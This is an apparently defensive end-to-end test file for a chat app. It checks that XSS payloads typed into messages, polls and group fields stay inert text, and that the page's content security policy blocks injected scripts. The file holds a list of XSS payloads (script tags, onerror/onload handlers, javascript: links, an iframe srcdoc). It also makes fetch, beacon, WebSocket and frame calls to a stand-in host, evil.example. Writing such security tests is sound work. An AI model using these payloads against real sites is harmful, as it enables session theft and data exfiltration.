import type { Page } from 'playwright-core'
import { expect, test } from 'vitest'
import { en } from '../../src/lang/en'
import { makeGroup, openInfo } from '../drivers/group'
import { choose, press } from '../drivers/hands'
import { exactly } from '../drivers/names'
import { scene } from '../scene'

const { newcomer, known, stranger } = scene('hostile')

declare global {
  interface Window {
    /** Set by any of the scripts below that runs. */
    stolen?: unknown
  }
}

const image = '<img src=x onerror="stolen=1">'
const svg = '<svg/onload=stolen=1>'
const messages = [
  '<script>stolen=1</script>',
  image,
  svg,
  'javascript:stolen=1',
  '[press here](javascript:stolen=1)',
  '[or here](data:text/html,<script>stolen=1</script>)',
  '```html\n<script>stolen=1</script>\n```',
  '\u202egnp.exe\u202c and \u2066bidi\u2069',
  '"><iframe srcdoc="<script>parent.stolen=1</script>">',
  'https://example.org/<script>stolen=1</script>',
]

/** Nothing ran, nothing became markup, no link runs anything. */
async function harmless(page: Page): Promise<void> {
  const found = await page.evaluate(() => ({
    stolen: window.stolen,
    markup: document.querySelectorAll('img[src="x"], iframe, object, embed, svg[onload], [onerror], [onload]').length,
    scripts: [...document.scripts].filter((script) => script.src === '' || new URL(script.src).origin !== origin)
      .length,
    links: [...document.links]
      .map((link) => link.protocol)
      .filter((protocol) => !/^(https?|mailto|tel|tg|tonsite):$/.test(protocol)),
  }))
  expect(found).toEqual({ stolen: undefined, markup: 0, scripts: 0, links: [] })
}

test('what people write stays text', async () => {
  const [kim, mal] = await Promise.all([known('Kim', '29001'), newcomer(svg, '29002')])
  const m = await mal.list.goTo(kim.username, 'Kim')
  for (const text of messages) {
    await m.box.click()
    await mal.page.keyboard.insertText(text)
    await mal.page.keyboard.press('Enter')
  }
  await m.has('bidi', 'iframe')
  const k = await kim.list.open(svg)
  await k.has(image, svg, 'press here', 'iframe')
  await harmless(kim.page)
  await harmless(mal.page)
  await kim.step('1 messages')

  await press(mal.page, en['attach.title'])
  await choose(mal.page, en['attach.poll'])
  const dialog = mal.page.getByRole('dialog')
  await dialog.getByLabel(exactly(en['attach.poll.question'])).fill(`Which? ${image}`)
  await dialog.getByLabel(exactly(en['attach.poll.option'].replace('{n}', '1'))).fill(svg)
  await dialog.getByLabel(exactly(en['attach.poll.option'].replace('{n}', '2'))).fill('javascript:stolen=1')
  await press(dialog, en['attach.poll.create'])
  await k.has('Which?')
  await harmless(kim.page)

  const group = await makeGroup(mal.page, `Club ${image}`, { Kim: kim.username })
  await openInfo(mal.page, group, 'edit')
  await mal.page.getByLabel(exactly(en['group.about'])).fill(`<a href="javascript:stolen=1">${svg}</a>`)
  await press(mal.page, en['info.save'])
  await kim.list.row('Club').first().click()
  await kim.page.getByTitle(en['chat.info']).click()
  await kim.page.getByRole('complementary').getByText('javascript:stolen=1').waitFor()
  await kim.step('2 group')
  await harmless(kim.page)
  const search = kim.page.getByRole('navigation').getByRole('searchbox')
  await search.fill('stolen')
  await kim.page.getByRole('search').getByRole('link').first().waitFor()
  await harmless(kim.page)
  await kim.leave()
  await mal.leave()
})

test('the policy of the page keeps foreign scripts out', async () => {
  const lou = await stranger('Lou')
  const { page } = lou
  const tries = await page.evaluate(async () => {
    const policy: string[] = []
    document.addEventListener('securitypolicyviolation', (e) => policy.push(e.effectiveDirective))
    const failed: string[] = []
    // What Playwright evaluates may evaluate itself; what comes after it may not.
    await new Promise((resolve) => setTimeout(resolve))
    const attempt = async (name: string, does: () => unknown) => {
      try {
        await does()
      } catch {
        failed.push(name)
      }
    }
    await attempt('inline', () => {
      const script = document.createElement('script')
      script.textContent = 'window.stolen = 1'
      document.head.append(script)
    })
    await attempt('foreign', () => {
      const script = document.createElement('script')
      script.src = 'https://evil.example/x.js'
      document.head.append(script)
    })
    await attempt('markup', () => {
      document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="stolen=1">')
    })
    await attempt('handler', () => {
      const button = document.createElement('button')
      button.setAttribute('onclick', 'stolen=1')
      document.body.append(button)
      button.click()
      button.remove()
    })
    await attempt('eval', () => new Function('window.stolen = 1')())
    await attempt('fetch', () => fetch('https://evil.example/'))
    await attempt('beacon', () => {
      if (!navigator.sendBeacon('https://evil.example/', 'x')) throw new Error('refused')
    })
    await attempt('socket', () => {
      new WebSocket('wss://evil.example/')
    })
    await attempt('worker', () => {
      new Worker('data:text/javascript,postMessage(1)')
    })
    await attempt('frame', () => {
      const frame = document.createElement('iframe')
      frame.src = 'https://evil.example/'
      document.body.append(frame)
      frame.remove()
    })
    await new Promise((resolve) => setTimeout(resolve))
    return { stolen: window.stolen, failed, policy: [...new Set(policy)].sort() }
  })
  expect(tries.stolen).toBeUndefined()
  expect(tries.failed).toEqual(expect.arrayContaining(['inline', 'foreign', 'markup', 'eval', 'fetch', 'worker']))
  expect(tries.policy).toEqual(expect.arrayContaining(['connect-src', 'require-trusted-types-for']))
  // All of that was meant to break the policy.
  lou.problems.length = 0
  await lou.context.close()
})
